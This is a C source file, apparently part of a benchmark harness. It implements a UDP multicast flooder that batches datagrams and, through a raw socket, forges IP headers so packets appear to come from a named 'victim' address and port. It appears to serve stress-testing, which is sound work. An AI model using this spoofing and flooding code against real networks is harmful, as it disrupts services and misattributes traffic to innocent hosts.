/* SPDX-License-Identifier: Apache-2.0 */
/* The flooder's sockets. */
#define _GNU_SOURCE /* sendmmsg */
#include "bench/flood/attack_socket.h"

#include <arpa/inet.h>
#include <poll.h>
#include <stdbool.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static bool set(int fd, int level, int name, const void *value, size_t size)
{
    return setsockopt(fd, level, name, value, (socklen_t)size) == 0;
}

int attack_open(struct attack_socket *net, const char *group, uint16_t port,
                const char *from)
{
    struct in_addr address;
    int one = 1, none = 0;

    memset(net, 0, sizeof *net);
    net->group.sin_family = AF_INET;
    net->group.sin_port = htons(port);
    if (inet_pton(AF_INET, group, &net->group.sin_addr) != 1 ||
        inet_pton(AF_INET, from, &address) != 1) {
        return -1;
    }
    struct ip_mreq join = {net->group.sin_addr, address};
    net->in = socket(AF_INET, SOCK_DGRAM, 0);
    net->out = socket(AF_INET, SOCK_DGRAM, 0);
    bool done =
        net->in >= 0 && net->out >= 0 &&
        set(net->in, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) &&
        bind(net->in, (struct sockaddr *)&net->group, sizeof net->group) == 0 &&
        set(net->in, IPPROTO_IP, IP_ADD_MEMBERSHIP, &join, sizeof join) &&
        set(net->out, IPPROTO_IP, IP_MULTICAST_IF, &address, sizeof address) &&
        set(net->out, IPPROTO_IP, IP_MULTICAST_LOOP, &none, sizeof none);
    return done ? 0 : -1;
}

int attack_forge(struct attack_socket *net, const struct sockaddr_in *victim)
{
    struct in_addr address;
    socklen_t size = sizeof address;
    int none = 0;
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    if (raw < 0 ||
        getsockopt(net->out, IPPROTO_IP, IP_MULTICAST_IF, &address, &size) <
            0 ||
        !set(raw, IPPROTO_IP, IP_MULTICAST_IF, &address, sizeof address) ||
        !set(raw, IPPROTO_IP, IP_MULTICAST_LOOP, &none, sizeof none)) {
        return -1;
    }
    close(net->out);
    net->out = raw;
    net->head_size = sizeof net->head;
    net->head[0] = 0x45;
    net->head[8] = 1; /* hops */
    net->head[9] = IPPROTO_UDP;
    memcpy(net->head + 12, &victim->sin_addr, 4);
    memcpy(net->head + 16, &net->group.sin_addr, 4);
    memcpy(net->head + 20, &victim->sin_port, 2);
    memcpy(net->head + 22, &net->group.sin_port, 2);
    return 0;
}

void attack_send(struct attack_socket *net,
                 uint8_t datagrams[BATCH][DATAGRAM_MAX],
                 const size_t sizes[BATCH])
{
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH][2];
    uint8_t heads[BATCH][sizeof net->head];
    int done = 0;

    for (size_t i = 0; i < BATCH; i++) {
        uint16_t size = htons((uint16_t)(8 + sizes[i]));
        memcpy(heads[i], net->head, sizeof net->head);
        memcpy(heads[i] + 24, &size, 2); /* without a checksum */
        parts[i][0] = (struct iovec){heads[i], net->head_size};
        parts[i][1] = (struct iovec){datagrams[i], sizes[i]};
        messages[i].msg_hdr = (struct msghdr){.msg_name = &net->group,
                                              .msg_namelen = sizeof net->group,
                                              .msg_iov = parts[i],
                                              .msg_iovlen = 2};
    }
    while (done >= 0 && done < BATCH) {
        int count =
            sendmmsg(net->out, messages + done, (unsigned)(BATCH - done), 0);
        net->sent += count > 0 ? (uint64_t)count : 0;
        done = count > 0 ? done + count : -1;
    }
}

size_t attack_receive(struct attack_socket *net, int wait_ms,
                      uint8_t bytes[DATAGRAM_MAX], struct sockaddr_in *source)
{
    struct pollfd ready = {net->in, POLLIN, 0};
    socklen_t size = sizeof *source;

    if (poll(&ready, 1, wait_ms) <= 0) {
        return 0;
    }
    ssize_t received = recvfrom(net->in, bytes, DATAGRAM_MAX, MSG_DONTWAIT,
                                (struct sockaddr *)source, &size);
    return received > 0 ? (size_t)received : 0;
}
